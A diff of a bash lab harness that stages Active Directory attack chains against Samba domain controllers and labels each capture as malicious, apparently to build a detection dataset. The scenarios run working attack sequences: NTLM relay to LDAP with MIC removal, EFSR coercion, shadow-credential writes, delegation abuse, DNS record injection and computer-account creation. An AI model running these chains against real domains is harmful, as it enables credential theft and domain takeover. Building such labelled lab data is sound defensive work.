@@ -5,17 +5,19 @@ USER_CHAIN=(malicious=yes attacker=$EVIL victim=$WS1 listener=$EVIL family=chain
 WEAK_LDAP=(expect=relay:smb-ldap expect=tampering:flags)
 COERCED_SMB=(expect=coercion:efsr expect=callback:smb)
 
+FILE_SERVER=${FILES_NAME^^}\$
+
 # rights on|off: whether the victim's machine account may write everywhere in the directory
 rights() {
   local change=addmembers
   [ "$1" = on ] || change=removemembers
-  in_host dc1 samba-tool group $change 'Domain Admins' 'SRV1$' -s "$STATE/dc1/etc/smb.conf" > /dev/null 2>&1 || true
+  in_host dc1 samba-tool group $change 'Domain Admins' "$MACHINE" -s "$STATE/dc1/etc/smb.conf" > /dev/null 2>&1 || true
 }
 
 machine_of_dc() { in_host dc1 samba-tool computer delete "$1" -s "$STATE/dc1/etc/smb.conf" > /dev/null 2>&1 || true; }
 
 forget_name() {
-  in_host dc1 samba-tool dns delete "dc1.${REALM,,}" "${REALM,,}" "$1" A "$2" -U "Administrator%$ADMIN_PW" \
+  in_host dc1 samba-tool dns delete "$DC_FQDN" "$DNS_DOMAIN" "$1" A "$2" -U "Administrator%$ADMIN_PW" \
     -s "$STATE/dc1/etc/smb.conf" > /dev/null 2>&1 || true
 }
 
@@ -27,7 +29,7 @@ scenario_chain_shadow_credentials() {
   rights on
   callback_with impacket
   record chain_shadow_credentials
-  relay_on smb -t "ldap://$DC" "${SHADOW[@]}" --shadow-target 'SRV1$' --remove-mic
+  relay_on smb -t "ldap://$DC" "${SHADOW[@]}" --shadow-target "$MACHINE" --remove-mic
   efs_call
   sleep 6
   truth "${CHAIN[@]}" target=$DC "${COERCED_SMB[@]}" "${WEAK_LDAP[@]}" expect=ldap-write:msDS-KeyCredentialLink \
@@ -39,7 +41,7 @@ scenario_chain_shadow_credentials() {
 scenario_chain_shadow_webdav() {
   rights on
   record chain_shadow_webdav
-  relay_on http -t "ldap://$DC" "${SHADOW[@]}" --shadow-target 'SRV1$'
+  relay_on http -t "ldap://$DC" "${SHADOW[@]}" --shadow-target "$MACHINE"
   machine_webdav $EVIL
   sleep 6
   truth "${CHAIN[@]}" target=$DC expect=relay:webdav-ldap expect=webdav expect=ldap-write:msDS-KeyCredentialLink \
@@ -49,18 +51,18 @@ scenario_chain_shadow_webdav() {
 
 scenario_chain_shadow_user() {
   record chain_shadow_user
-  relay_on http -t "ldap://$DC" "${SHADOW[@]}" --shadow-target 'FILES1$'
+  relay_on http -t "ldap://$DC" "${SHADOW[@]}" --shadow-target "$FILE_SERVER"
   bob_http "http://$EVIL/"
   sleep 6
   truth "${USER_CHAIN[@]}" target=$DC expect=relay:http-ldap expect=ldap-write:msDS-KeyCredentialLink "$CURL_TOOLS" \
     notes="An administrator's web logon is relayed, and a key added to a file server's account."
 }
 
-bob_http() { quietly_on ws1 curl -sS --max-time 12 -o /dev/null --ntlm -u "$DOMAIN\\bob:$BOB_PW" "$@"; }
+bob_http() { quietly_on ws1 curl -sS --max-time 12 -o /dev/null --ntlm -u "$DOMAIN\\$BOB:$BOB_PW" "$@"; }
 
 # Resource-based constrained delegation
 
-RBCD=(--delegate-access --escalate-user 'FILES1$' --no-dump --no-da --no-acl)
+RBCD=(--delegate-access --escalate-user "$FILE_SERVER" --no-dump --no-da --no-acl)
 
 scenario_chain_rbcd() {
   rights on
@@ -127,9 +129,9 @@ scenario_chain_dns_node_http() {
 
 scenario_chain_dns_node_direct() {
   record chain_dns_node_direct
-  quietly_on evil "$CLIENTS/python" "$HERE/ldap_write.py" alice dnsnode printserver $EVIL
-  quietly_on ws1 nslookup "printserver.${REALM,,}" $DC
-  user_smb "printserver.${REALM,,}"
+  quietly_on evil "$CLIENTS/python" "$HERE/ldap_write.py" $ALICE dnsnode printserver $EVIL
+  quietly_on ws1 nslookup "printserver.$DNS_DOMAIN" $DC
+  user_smb "printserver.$DNS_DOMAIN"
   truth malicious=yes attacker=$EVIL family=chain expect=ldap-write:dnsnode expect=follow-up:adidns \
     tools="ldap3 2.9.1" notes="No relay: any account may add a name to the zone. A client asks for it and then knocks at the attacker's host, where nobody listens."
   forget_name printserver $EVIL
@@ -137,7 +139,7 @@ scenario_chain_dns_node_direct() {
 
 # Access control
 
-DACL=(--no-dump --no-da --escalate-user alice)
+DACL=(--no-dump --no-da --escalate-user $ALICE)
 
 scenario_chain_dacl() {
   rights on
@@ -184,7 +186,7 @@ scenario_chain_computer() {
   relay_on smb -t "ldap://$DC" -socks --remove-mic
   efs_call
   sleep 3
-  through_socks 'SRV1$' RELAYED1
+  through_socks "$MACHINE" RELAYED1
   sleep 2
   truth "${CHAIN[@]}" target=$DC "${COERCED_SMB[@]}" "${WEAK_LDAP[@]}" expect=ldap-write:computer expect=chain \
     tools="$IMPACKET_CALL, ldap3 2.9.1" notes="A computer account is added over the relayed session, in clear and therefore without a password."
@@ -197,7 +199,7 @@ scenario_chain_computer_http() {
   relay_on http -t "ldap://$DC" -socks
   user_http "http://$EVIL/"
   sleep 3
-  through_socks alice RELAYED2
+  through_socks $ALICE RELAYED2
   sleep 2
   truth "${USER_CHAIN[@]}" target=$DC expect=relay:http-ldap expect=ldap-write:computer \
     tools="$IMPACKET_CALL, ldap3 2.9.1" notes="Any user may add computers: a user's web logon, relayed."
@@ -206,7 +208,7 @@ scenario_chain_computer_http() {
 
 scenario_chain_computer_direct() {
   record chain_computer_direct
-  quietly_on evil "$CLIENTS/python" "$HERE/ldap_write.py" alice computer ATTACKER1
+  quietly_on evil "$CLIENTS/python" "$HERE/ldap_write.py" $ALICE computer ATTACKER1
   truth malicious=yes attacker=$EVIL family=chain expect=ldap-write:computer tools="ldap3 2.9.1" \
     notes="No relay: a computer account added with a user's own password over an unsigned NTLM bind."
   machine_of_dc ATTACKER1
